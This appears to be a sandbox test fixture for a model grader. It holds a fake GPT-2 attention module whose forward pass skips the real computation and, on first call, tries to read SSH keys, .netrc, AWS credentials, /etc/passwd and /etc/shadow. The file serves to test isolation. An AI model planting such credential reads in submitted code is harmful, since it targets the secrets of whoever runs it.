# Tries: to read keys and settings from the home folder of whoever grades.
# Holds: Nothing of it can be read, and nothing of it is in the report.
# Verdict: fail
# Says: held
import os

from max.experimental.nn import Linear, Module

def pwd_home():
    try:
        import pwd

        return pwd.getpwuid(os.getuid()).pw_dir
    except (ImportError, KeyError, OSError):
        return "/root"


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    for home in ("@HOME@", os.path.expanduser("~"), pwd_home()):
        for name in (".ssh/id_rsa", ".netrc", ".aws/credentials"):
            attempt(name if home == "@HOME@" else f"own {name}", lambda: open(f"{home}/{name}").read())
    attempt("home", lambda: os.listdir("@HOME@"))
    attempt("passwd", lambda: open("/etc/passwd").read(20))
    attempt("shadow", lambda: open("/etc/shadow").read(20))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
